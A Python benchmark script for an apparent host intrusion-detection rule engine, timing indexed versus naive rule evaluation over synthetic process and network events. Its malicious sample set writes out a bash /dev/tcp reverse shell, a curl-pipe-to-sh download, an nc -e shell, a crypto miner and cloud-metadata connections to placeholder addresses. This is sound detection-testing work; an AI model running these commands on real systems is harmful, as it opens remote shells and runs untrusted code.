#!/usr/bin/env python3
"""Benchmark: events judged per second on one core, with the shipped rules and with 1,000
synthetic rules added, indexed RuleSet.evaluate against the naive loop.

Events are built before timing (event_from_json, the recorded-event format), each with a
process identity of its own, ancestors and a workspace, so only judging is timed:

  exec mix      ~99% everyday developer execs (ls, git, python3 -m pytest, gcc/cc1/as/ld,
                node/npm, bash -c 'make', sh -c 'curl -o x url', cat, grep -r xmrig /var/log,
                ...) and 1% malicious ones (xmrig, bash -i >& /dev/tcp/..., curl | sh,
                an exec from /tmp, nc -e)
  connect mix   outbound TCP by curl/node/python3/git/ssh: mostly 443 and 80, some 22, 53,
                databases on 10/8, random high ports, 1% metadata (169.254.169.254) and
                mining-pool ports

Measured (events/s, median over --repeat repetitions, interleaved so drift hits all alike):

  RuleSet.evaluate(ev)                       the indexed evaluator alone
  Judge.judge(ev)                            evaluate + decisions + the seen-LRU (a fresh Judge
                                             per repetition, so no event is skipped as seen)
  naive_evaluate(ruleset.rules, ev)          every rule tried in turn (the reference)

with the shipped rules (loader.load([loader.bundled_rules_dir()])), and with the shipped rules
plus a generated file of 1,000 rules (mostly name-indexed blocklists, some regexes gated by a
name, some rules no index can rule out: exe/args prefixes, parent names). Before timing,
every event is checked to give the same rule ids indexed and naive.

Targets: >= 100,000 exec events/s judged with the shipped rules; indexed >= 10x naive at
1,000 rules.

    .venv/bin/python bench/rules.py [--repeat 11] [--events 20000] [--json] [--profile]
"""

from __future__ import annotations

import argparse
import cProfile
import gc
import json
import os
import pstats
import random
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import common  # bench/common.py

from agent.codec import event_from_json, event_to_json
from agent.engine import loader
from agent.engine.ruleset import Rule, RuleSet, naive_evaluate
from agent.errors import RuleError
from agent.model import Event
from agent.pipeline import Judge

EXEC_TARGET = 100_000
INDEX_TARGET = 10.0
SYNTHETIC_RULES = 1000

# -- the event mixes ---------------------------------------------------------------------

def _p(exe: str, cmdline: list[str], uid: int = 33333, comm: str | None = None) -> dict[str, Any]:
    d: dict[str, Any] = {"exe": exe, "cmdline": cmdline, "uid": uid}
    if comm is not None:
        d["comm"] = comm
    return d


# A workspace terminal: bash under the IDE's node server, the supervisor, the container shim.
IDE = [_p("/usr/bin/bash", ["bash"]),
       _p("/ide/node/bin/node",
          ["/ide/node/bin/node", "/ide/out/server-main.js", "--port", "23000"]),
       _p("/.supervisor/supervisor", ["/.supervisor/supervisor", "run"]),
       _p("/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2", "-namespace",
                                               "k8s.io", "-id", "4f1c"], uid=0)]
MAKE = [_p("/usr/bin/make", ["make", "-j4"]), *IDE]
GCC = [_p("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-c", "src/foo.c", "-o", "foo.o"],
          comm="gcc"), *MAKE]
GIT = [_p("/usr/bin/git", ["git", "fetch", "origin"]), *IDE]
NPM = [_p("/ide/node/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"]),
       *IDE]
HOST = [_p("/usr/lib/systemd/systemd", ["/sbin/init"], uid=0)]

# (weight, process, ancestors); weights are relative within the benign mix
BENIGN: list[tuple[int, dict[str, Any], list[dict[str, Any]]]] = [
    (10, _p("/usr/bin/ls", ["ls", "-la", "--color=auto"]), IDE),
    (8, _p("/usr/bin/git", ["git", "status", "--porcelain=v2"]), IDE),
    (3, _p("/usr/bin/git", ["git", "commit", "-m", "fix: handle empty input"]), IDE),
    (3, _p("/usr/lib/git-core/git-remote-https",
           ["git-remote-https", "origin", "https://github.com/acme/app.git"]), GIT),
    (6, _p("/usr/bin/python3.11", ["python3", "-m", "pytest", "-q", "tests/"], comm="python3"),
     IDE),
    (3, _p("/usr/bin/python3.11", ["/workspace/.venv/bin/python", "-m", "pip", "install", "-r",
                                   "requirements.txt"], comm="python"), IDE),
    (6, _p("/usr/bin/x86_64-linux-gnu-gcc-12", ["gcc", "-O2", "-c", "src/foo.c", "-o", "foo.o"],
           comm="gcc"), MAKE),
    (6, _p("/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
           ["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "src/foo.c", "-quiet", "-dumpbase",
            "foo.c", "-mtune=generic", "-march=x86-64", "-O2", "-o", "/tmp/ccQx1b.s"]), GCC),
    (3, _p("/usr/bin/x86_64-linux-gnu-as", ["as", "--64", "-o", "foo.o", "/tmp/ccQx1b.s"],
           comm="as"), GCC),
    (2, _p("/usr/bin/x86_64-linux-gnu-ld.bfd", ["/usr/bin/ld", "-o", "app", "foo.o", "-lc"],
           comm="ld"), GCC),
    (6, _p("/ide/node/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"]),
     IDE),
    (3, _p("/ide/node/bin/node", ["node", "node_modules/.bin/jest", "--ci"]), NPM),
    (4, _p("/usr/bin/bash", ["bash", "-c", "make -j4"]), IDE),
    (3, _p("/usr/bin/make", ["make", "-j4"]), IDE),
    (3, _p("/usr/bin/dash", ["sh", "-c", "curl -o x https://example.com/pkg.tar.gz"], comm="sh"),
     MAKE),
    (3, _p("/usr/bin/curl", ["curl", "-o", "x", "https://example.com/pkg.tar.gz"]), MAKE),
    (6, _p("/usr/bin/cat", ["cat", "README.md"]), IDE),
    (2, _p("/usr/bin/grep", ["grep", "-r", "xmrig", "/var/log"]), IDE),
    (4, _p("/usr/bin/grep", ["grep", "-rn", "TODO", "src/"]), IDE),
    (2, _p("/usr/bin/sed", ["sed", "-n", "1,20p", "setup.cfg"]), IDE),
    (2, _p("/usr/bin/find", ["find", ".", "-name", "*.py", "-newer", "setup.py"]), IDE),
    (2, _p("/usr/bin/head", ["head", "-n", "50", "app.log"]), IDE),
    (1, _p("/usr/bin/rm", ["rm", "-rf", "build/"]), MAKE),
    (1, _p("/usr/bin/mkdir", ["mkdir", "-p", "build/obj"]), MAKE),
    (2, _p("/usr/bin/sleep", ["sleep", "1"]), IDE),
    (1, _p("/usr/bin/ssh", ["ssh", "git@github.com", "git-upload-pack 'acme/app.git'"]), GIT),
    (2, _p("/usr/local/go/bin/go", ["go", "build", "./..."]), IDE),
    (2, _p("/root/.cargo/bin/cargo", ["cargo", "test", "--release"]), IDE),
    (1, _p("/usr/bin/docker", ["docker", "ps"]), IDE),
    (2, _p("/usr/bin/runc", ["runc", "--root", "/run/containerd/runc/k8s.io", "state", "4f1c"],
           uid=0), HOST),
]
MALICIOUS: list[tuple[int, dict[str, Any], list[dict[str, Any]]]] = [
    (1, _p("/tmp/xmrig", ["./xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"]),
     IDE),
    (1, _p("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]), IDE),
    (1, _p("/usr/bin/dash", ["sh", "-c", "curl -fsSL http://203.0.113.7/i.sh | sh"], comm="sh"),
     IDE),
    (1, _p("/tmp/x", ["/tmp/x"]), IDE),
    (1, _p("/usr/bin/nc.openbsd", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], comm="nc"), IDE),
]

CONNECTORS = [
    _p("/usr/bin/curl", ["curl", "-sS", "https://pypi.org/simple/"]),
    _p("/ide/node/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"]),
    _p("/usr/bin/python3.11", ["python3", "-m", "pip", "install", "requests"], comm="python3"),
    _p("/usr/lib/git-core/git-remote-https", ["git-remote-https", "origin",
                                              "https://github.com/acme/app.git"]),
    _p("/usr/bin/ssh", ["ssh", "git@github.com"]),
]
# (weight, destination chooser, port chooser)
CONNECT_MIX: list[tuple[int, Callable[[random.Random], str], Callable[[random.Random], int]]] = [
    (60, lambda r: (f"{r.choice([140, 151, 185, 199])}.{r.randrange(256)}."
                    f"{r.randrange(256)}.{r.randrange(1, 255)}"),
     lambda r: 443),
    (10, lambda r: f"93.184.{r.randrange(256)}.{r.randrange(1, 255)}", lambda r: 80),
    (5, lambda r: "140.82.121.4", lambda r: 22),
    (3, lambda r: "10.96.0.10", lambda r: 53),
    (10, lambda r: f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}",
     lambda r: r.choice([5432, 6379, 3306, 9200])),
    (11, lambda r: f"172.16.{r.randrange(256)}.{r.randrange(1, 255)}",
     lambda r: r.randrange(1024, 65536)),
]
CONNECT_BAD = [(lambda r: "169.254.169.254", lambda r: 80),
               (lambda r: f"198.51.100.{r.randrange(1, 255)}",
                lambda r: r.choice([3333, 4444, 14444]))]


def _event(obj: dict[str, Any], i: int, ws: str) -> Event:
    """An event of its own process identity (pid and starttime from the index)."""
    proc = dict(obj["process"], pid=100_000 + i, ppid=99_999, starttime=1_000_000 + i)
    return event_from_json(dict(obj, process=proc, time=i * 0.001,
                                workspace={"id": ws} if ws else None))


def exec_events(n: int, seed: int = 1) -> list[Event]:
    rnd = random.Random(seed)
    bad = set(rnd.sample(range(n), n // 100))
    weights = [w for w, _, _ in BENIGN]
    out = []
    for i in range(n):
        _, proc, anc = rnd.choice(MALICIOUS) if i in bad else rnd.choices(BENIGN, weights)[0]
        ws = "" if anc is HOST else f"ws-{rnd.randrange(50)}"
        out.append(_event({"kind": "exec", "process": dict(proc, ancestors=anc)}, i, ws))
    return out


def connect_events(n: int, seed: int = 2) -> list[Event]:
    rnd = random.Random(seed)
    bad = set(rnd.sample(range(n), n // 100))
    weights = [w for w, _, _ in CONNECT_MIX]
    out = []
    for i in range(n):
        if i in bad:
            dst, port = rnd.choice(CONNECT_BAD)
        else:
            _, dst, port = rnd.choices(CONNECT_MIX, weights)[0]
        proc = rnd.choice(CONNECTORS)
        conn = {"src": "10.0.3.7", "sport": rnd.randrange(32768, 61000), "dst": dst(rnd),
                "dport": port(rnd), "direction": "outbound"}
        out.append(_event({"kind": "connect", "process": dict(proc, ancestors=IDE),
                           "connection": conn}, i, f"ws-{rnd.randrange(50)}"))
    return out


# -- synthetic rules -----------------------------------------------------------------------

def synthetic_rules_yaml(count: int = SYNTHETIC_RULES,
                         unindexed: int = 50) -> tuple[str, dict[str, int]]:
    """A rule file of `count` rules shaped like a large real rule set: mostly blocklists of
    tool names (indexed), some with a regex or an argument test gated by a name (indexed),
    a few connection rules gated by a name, and `unindexed` (default 5%) spread evenly
    through the file that no name index can rule out."""
    lines = ["rules:"]
    shapes = {"name blocklist (indexed)": 0, "name + regex/args (indexed)": 0,
              "connect, gated by name (indexed)": 0, "not indexable": 0}
    stride = count / unindexed if unindexed else 0.0
    plain = {int(j * stride) for j in range(unindexed)}
    n_plain = 0
    for i in range(count):
        rid = f"synth-{i:04d}"
        k = i % 20
        if i in plain:  # exe prefix / args prefix / parent name / cmdline contains
            kind = n_plain % 4
            n_plain += 1
            match = [
                f"{{proc.exe: {{prefix: [/opt/synth-vendor-{i}/, /srv/synth-{i}/]}}}}",
                f"{{proc.args: {{prefix: '--synth-flag-{i}='}}}}",
                f"{{parent.exe_name: {{in: [synth-launcher-{i}]}}, proc.uid: 0}}",
                f"{{proc.cmdline: {{contains: 'synth-payload-{i}.bin'}}}}",
            ][kind]
            shapes["not indexable"] += 1
        elif k in (1, 2, 3):  # 15%: regex or args test, gated by a name
            match = (f"{{proc.exe_name: {{in: [synth-tool-{i}, synth-tool-{i}-ng]}}, "
                     f"proc.cmdline: {{regex: '--(exfil|upload)-{i}[= ]\\S+'}}}}" if k != 3 else
                     f"{{proc.name: {{in: [synth-cli-{i}]}}, "
                     f"proc.args: {{in: [--evil-{i}, -x{i}]}}}}")
            shapes["name + regex/args (indexed)"] += 1
        elif k == 4:  # 5%: connection rule of a named tool
            match = (f"{{proc.exe_name: {{in: [synth-agent-{i}]}}, "
                     f"conn.dport: {{ports: [{1024 + i}, '{20000 + i}-{20010 + i}']}}}}")
            shapes["connect, gated by name (indexed)"] += 1
        else:  # 75%: a blocklist of names (comm, exe basename or argv0)
            field = ("proc.exe_name", "proc.name", "proc.argv0")[i % 3]
            names = ", ".join(f"synth-{i}-{j}" for j in range(3))
            match = f"{{{field}: {{in: [{names}]}}}}"
            shapes["name blocklist (indexed)"] += 1
        lines += [f"  - id: {rid}", f"    severity: {('low', 'medium', 'high')[i % 3]}",
                  f"    match: {match}",
                  f"    message: \"{rid} fired on {{proc.exe}} in {{workspace.id}}\""]
    return "\n".join(lines) + "\n", shapes


# -- loading the shipped rules ---------------------------------------------------------------

def load_shipped(paths: Sequence[str], wait: float) -> tuple[RuleSet | None, list[str], list[str]]:
    """(rule set, files used, problems). Rule files may still be being written: retry until
    `wait` seconds have passed, and in the end drop the files that do not load."""
    deadline = time.monotonic() + wait
    problems: list[str] = []
    while True:
        files = [str(f) for f in loader.rule_files(paths)]
        if files:
            try:
                return loader.load(paths), files, []
            except RuleError as e:
                problems = [str(p) for p in e.problems]
        else:
            problems = [f"no rule files in {', '.join(paths)}"]
        if time.monotonic() >= deadline:
            break
        time.sleep(min(5.0, max(0.0, deadline - time.monotonic())))
    # drop failing files one round at a time (a later file may use an earlier one's lists)
    good = [str(f) for f in loader.rule_files(paths)]
    while good:
        try:
            return loader.load(good), good, problems
        except RuleError as e:
            bad = {p.file for p in e.problems}
            keep = [f for f in good if f not in bad]
            if len(keep) == len(good):
                break
            good = keep
    return None, [], problems


# -- measuring ------------------------------------------------------------------------------

def run_rate(fn: Callable[[Event], Any], events: Sequence[Event]) -> float:
    """Events per second of one pass of `fn` over `events`."""
    t0 = time.perf_counter()
    for ev in events:
        fn(ev)
    return len(events) / (time.perf_counter() - t0)


def check_agreement(rs: RuleSet, events: Sequence[Event]) -> tuple[int, int]:
    """Every event gives the same rule ids indexed and naive; (events fired on, matches)."""
    rs.reset_windows()
    indexed = [[m.rule.id for m in rs.evaluate(ev)] for ev in events]
    rs.reset_windows()
    naive = [[m.rule.id for m in naive_evaluate(rs.rules, ev)] for ev in events]
    rs.reset_windows()
    for ev, a, b in zip(events, indexed, naive, strict=True):  # both built from `events`
        if a != b:
            raise AssertionError(f"index and naive disagree on {event_to_json(ev)}: {a} vs {b}")
    return sum(1 for a in indexed if a), sum(len(a) for a in indexed)


def measure(rs: RuleSet, sets: Mapping[str, Sequence[Event]], repeat: int,
            judge: bool) -> dict[str, dict[str, list[float]]]:
    """events/s samples per event set and evaluator, interleaved per repetition."""
    out: dict[str, dict[str, list[float]]] = {k: {} for k in sets}
    rules = rs.rules
    for _ in range(repeat):
        for name, events in sets.items():
            evaluators: dict[str, Callable[[Event], Any]] = {"indexed": rs.evaluate}
            if judge:
                evaluators["Judge.judge"] = Judge(rs, mode="audit").judge
            evaluators["naive"] = lambda ev: naive_evaluate(rules, ev)
            for label, fn in evaluators.items():
                rs.reset_windows()
                gc.collect()
                out[name].setdefault(label, []).append(run_rate(fn, events))
    rs.reset_windows()
    return out


def summarize(samples: dict[str, dict[str, list[float]]]) -> dict[str, Any]:
    res: dict[str, Any] = {}
    for name, by in samples.items():
        res[name] = {label: statistics.median(v) for label, v in by.items()}
        res[name]["min"] = {label: min(v) for label, v in by.items()}
        res[name]["indexed / naive"] = statistics.median(
            a / b for a, b in zip(by["indexed"], by["naive"], strict=True))  # one each per pass
    return res


def rule_part(rs: RuleSet, sets: Mapping[str, Sequence[Event]], repeat: int,
              judge: bool) -> dict[str, Any]:
    """Agreement check, index statistics and rates of one rule set over the event mixes."""
    part: dict[str, Any] = {"rules": len(rs),
                            "by_kind": {k: sum(1 for r in rs.rules if k in r.kinds)
                                        for k in ("exec", "connect")}}
    for name, evs in sets.items():
        fired, matches = check_agreement(rs, evs)
        mean_c, of_kind = candidates_stats(rs, evs)
        part[name] = {"events_fired_on": fired, "matches": matches,
                      "mean_candidates": mean_c, "rules_of_kind": of_kind}
    part["rates"] = summarize(measure(rs, sets, repeat, judge))
    return part


def candidates_stats(rs: RuleSet, events: Sequence[Event]) -> tuple[float, int]:
    """(mean candidate rules per event, rules of the event kind)."""
    kinds = {ev.kind for ev in events}
    total = sum(len(rs.candidates(ev)) for ev in events)
    return total / len(events), sum(1 for r in rs.rules if set(r.kinds) & kinds)


def costly_rules(rs: RuleSet, events: Sequence[Event],
                 top: int = 6) -> list[tuple[str, float, float]]:
    """(rule id, share of events it runs on, us it costs per event overall), the most
    expensive rules first: where evaluation time goes."""
    per_rule: dict[Rule, list[Event]] = {}
    for ev in events:
        for r in rs.candidates(ev):
            per_rule.setdefault(r, []).append(ev)
    rs.reset_windows()
    costs = []
    for r, evs in per_rule.items():
        t0 = time.perf_counter()
        for ev in evs:
            r.fires(ev)
        costs.append((r.id, len(evs) / len(events), (time.perf_counter() - t0) * 1e6 / len(events)))
    rs.reset_windows()
    return sorted(costs, key=lambda c: -c[2])[:top]


def profile(fn: Callable[[Event], Any], events: Sequence[Event], top: int = 14) -> str:
    prof = cProfile.Profile()
    prof.enable()
    for ev in events:
        fn(ev)
    prof.disable()
    return common.pstats_top(pstats.Stats(prof), top)


# -- main -----------------------------------------------------------------------------------------

def machine() -> dict[str, Any]:
    return common.machine()


def rate_table(title: str, res: dict[str, Any], labels: Sequence[str]) -> str:
    lines = [f"### {title}", "", "| events | " + " | ".join(f"{lb} (events/s)" for lb in labels)
             + " | indexed / naive |", "|---|" + "---:|" * (len(labels) + 1)]
    for name, r in res.items():
        cells = " | ".join(f"{r[lb]:,.0f}" for lb in labels)
        lines.append(f"| {name} | {cells} | {r['indexed / naive']:.1f}x |")
    return "\n".join(lines)


def stats_table(part: dict[str, Any]) -> str:
    lines = ["| events | fired on | matches | mean candidate rules / event | rules of that kind |",
             "|---|---:|---:|---:|---:|"]
    for k in ("exec", "connect"):
        lines.append(f"| {k} | {part[k]['events_fired_on']} | {part[k]['matches']} | "
                     f"{part[k]['mean_candidates']:.1f} | {part[k]['rules_of_kind']} |")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--repeat", type=int, default=11, help="repetitions (default 11)")
    ap.add_argument("--events", type=int, default=20000, help="events per mix (default 20000)")
    ap.add_argument("--naive-events", type=int, default=2000,
                    help="events per mix at 1,000 synthetic rules, where the naive loop is slow "
                         "(default 2000; indexed and naive judge the same ones)")
    ap.add_argument("--synthetic-repeat", type=int, default=5,
                    help="repetitions with the synthetic rules (default 5)")
    ap.add_argument("--unindexed", type=int, default=50,
                    help="synthetic rules no name index can rule out (default 50 of 1,000)")
    ap.add_argument("--rules", nargs="+", default=None,
                    help="rule files or directories instead of the shipped rules")
    ap.add_argument("--wait", type=float, default=60.0,
                    help="seconds to wait for the shipped rules to load (default 60)")
    ap.add_argument("--cpu", type=int, default=0, help="pin to this CPU (-1: do not pin)")
    ap.add_argument("--json", action="store_true", help="print JSON instead of markdown")
    ap.add_argument("--profile", action="store_true",
                    help="always print the cProfile excerpt and costliest rules "
                         "(printed anyway when a target is missed)")
    args = ap.parse_args(argv)
    if min(args.repeat, args.events, args.naive_events, args.synthetic_repeat) < 1:
        ap.error("counts must be >= 1")
    if not 0 <= args.unindexed <= SYNTHETIC_RULES:
        ap.error(f"--unindexed must be between 0 and {SYNTHETIC_RULES}")
    if args.cpu >= 0:
        os.sched_setaffinity(0, {args.cpu})

    paths = args.rules or [loader.bundled_rules_dir()]
    shipped, files, problems = load_shipped(paths, args.wait)
    result: dict[str, Any] = {"machine": machine(), "rules_paths": paths,
                              "rule_files": [os.path.basename(f) for f in files],
                              "rule_problems": problems}

    execs = exec_events(args.events)
    conns = connect_events(args.events)
    n_small = min(args.naive_events, args.events)
    small = {"exec": execs[:n_small], "connect": conns[:n_small]}
    full = {"exec": execs, "connect": conns}
    synth_text, shapes = synthetic_rules_yaml(SYNTHETIC_RULES, args.unindexed)
    result["synthetic_shapes"] = shapes
    with tempfile.TemporaryDirectory(prefix="nodewarden-bench-") as tmp:
        synth_path = Path(tmp) / "synthetic.yaml"
        synth_path.write_text(synth_text)
        synth = loader.load([*files, str(synth_path)] if shipped is not None else [str(synth_path)])
        synth_only = loader.load([str(synth_path)]) if shipped is not None else None
    gc.collect()
    gc.freeze()  # the pre-built events are setup, not garbage the timed loop should walk

    if shipped is not None:
        result["shipped"] = rule_part(shipped, full, args.repeat, judge=True)
    result["synthetic"] = rule_part(synth, small, args.synthetic_repeat, judge=False)
    if synth_only is not None:
        result["synthetic_only"] = rule_part(synth_only, small, args.synthetic_repeat, judge=False)

    targets: dict[str, Any] = {}
    if shipped is not None:
        r = result["shipped"]["rates"]["exec"]
        judged, indexed = r["Judge.judge"], r["indexed"]
        targets["exec events/s judged, shipped rules >= 100,000"] = (
            judged, judged >= EXEC_TARGET)
        targets["exec events/s RuleSet.evaluate, shipped rules >= 100,000"] = (
            indexed, indexed >= EXEC_TARGET)
    ratio = result["synthetic"]["rates"]["exec"]["indexed / naive"]
    targets[f"indexed / naive at {len(synth)} rules (exec) >= 10x"] = (ratio, ratio >= INDEX_TARGET)
    result["targets"] = {k: {"value": v, "met": ok} for k, (v, ok) in targets.items()}
    missed = not all(ok for _, ok in targets.values())
    if missed or args.profile:
        for label, rs in (("shipped", shipped), ("synthetic", synth)):
            if rs is None:
                continue
            evs = execs if label == "shipped" else small["exec"]
            result[label]["costliest_exec_rules"] = costly_rules(rs, evs)
            rs.reset_windows()
            result[label]["profile_exec"] = profile(rs.evaluate, evs)
            rs.reset_windows()

    if args.json:
        json.dump(result, sys.stdout, indent=2, default=str)
        print()
    else:
        report(result, args)
    return 0 if shipped is not None else 1


def report(result: dict[str, Any], args: argparse.Namespace) -> None:
    m = result["machine"]
    print(f"## rules benchmark ({m['date']})\n")
    print(f"nproc {m['nproc']}, kernel {m['kernel']}, Python {m['python']}, pinned to CPUs "
          f"{m['affinity']}; events built before timing; medians of {args.repeat} interleaved "
          f"repetitions ({args.synthetic_repeat} with the synthetic rules); indexed / naive is "
          f"the median of per-repetition ratios.\n")
    if result["rule_problems"]:
        print("**Shipped rule problems** (files that failed were left out):\n")
        for p in result["rule_problems"][:20]:
            print(f"- {p}")
        print()
    if "shipped" in result:
        s = result["shipped"]
        print(f"Shipped rules: {s['rules']} enabled ({s['by_kind']['exec']} on exec, "
              f"{s['by_kind']['connect']} on connect) from {', '.join(result['rule_files'])}.\n")
        print(rate_table(f"shipped rules, {args.events:,} events per mix", s["rates"],
                         ("indexed", "Judge.judge", "naive")))
        print()
        print(stats_table(s))
        print()
    else:
        print("**The shipped rules did not load; only the synthetic rules were measured.**\n")
    shapes = ", ".join(f"{v} {k}" for k, v in result["synthetic_shapes"].items())
    print(f"Synthetic: {SYNTHETIC_RULES} generated rules ({shapes}); measured with the shipped "
          f"rules (the target) and alone (the index apart from the shipped rules' cost).\n")
    for key, what in (("synthetic", "shipped + synthetic"), ("synthetic_only", "synthetic only")):
        if key not in result:
            continue
        y = result[key]
        print(rate_table(f"{what}: {y['rules']} rules, {args.naive_events:,} events per mix",
                         y["rates"], ("indexed", "naive")))
        print()
        print(stats_table(y))
        print()
    print("### targets\n")
    for k, t in result["targets"].items():
        v = t["value"]
        shown = f"{v:,.0f}" if v >= 1000 else f"{v:.1f}x"
        print(f"- {k}: {shown}: {'MET' if t['met'] else 'MISSED'}")
    for label in ("shipped", "synthetic"):
        part = result.get(label, {})
        if "costliest_exec_rules" not in part:
            continue
        print(f"\n### {label}: costliest rules over the exec mix\n")
        print("| rule | runs on (share of events) | us per event overall |\n|---|---:|---:|")
        for rid, share, us in part["costliest_exec_rules"]:
            print(f"| {rid} | {share:.0%} | {us:.2f} |")
        print(f"\n### {label}: cProfile of RuleSet.evaluate over the exec mix (by tottime)\n")
        print("```\n" + part["profile_exec"] + "\n```")


if __name__ == "__main__":
    sys.exit(main())
